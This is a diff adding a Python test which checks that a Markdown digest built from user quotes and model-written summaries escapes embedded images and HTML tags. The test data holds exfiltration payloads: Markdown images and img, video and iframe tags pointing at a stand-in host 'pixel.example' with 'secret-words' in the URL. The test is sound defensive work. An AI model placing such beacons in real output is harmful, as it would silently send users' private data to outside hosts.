@@ -260,3 +260,32 @@ def test_the_whole_guide_is_shown_on_a_first_run_only(tmp_path: Path) -> None:
     assert "docs/choosing-rules.md" in second
     assert len(second.split("## What to do")[1].splitlines()) < 10
     assert (REPO / "docs" / "choosing-rules.md").is_file()
+
+
+def test_no_quote_or_model_text_makes_a_markdown_viewer_fetch() -> None:
+    # A quote is what the person typed, a summary what a model wrote from it: shown in a
+    # Markdown preview, an image or an <img> in either was a request leaving the machine.
+    from markdown_it import MarkdownIt
+
+    pixel = "https://pixel.example/t.png?d=secret-words"
+    base = sample_result()
+    uv = dataclasses.replace(
+        base.proposals[0], label="use-uv ![l](" + pixel + ")",
+        text=f"use uv ![x]({pixel}) and <img src={pixel}>",
+        quotes=(Quote("s1", f"use uv ![x]({pixel})", "2026-11-02T09:00:00Z"),
+                Quote("s2", f"uv <IMG SRC='{pixel}'/> again", "2026-11-10T09:00:00Z")),
+        verdict=Verdict(True, f"Use uv. ![ok][r]\n\n[r]: {pixel}", "tooling", "user", 0.9,
+                        rationale=f"<video src={pixel}></video> <iframe src={pixel}>"),
+    )
+    result = dataclasses.replace(base, proposals=(uv, *base.proposals[1:]),
+                                 failures=(f"s9: <img src={pixel}>",))
+    md = render_digest_markdown(result)
+    html = MarkdownIt("commonmark").render(md)
+    assert pixel in md  # what was said is kept, as typed
+    for tag in ("<img", "<video", "<iframe", 'src="'):
+        assert tag not in html.lower()  # escaped, they are text: &lt;img
+    # Links stay links: following one is the person's own click.
+    linked = dataclasses.replace(result, proposals=(dataclasses.replace(
+        uv, text="see [the docs](https://docs.example/uv)"), *base.proposals[1:]))
+    assert 'href="https://docs.example/uv"' in MarkdownIt("commonmark").render(
+        render_digest_markdown(linked))
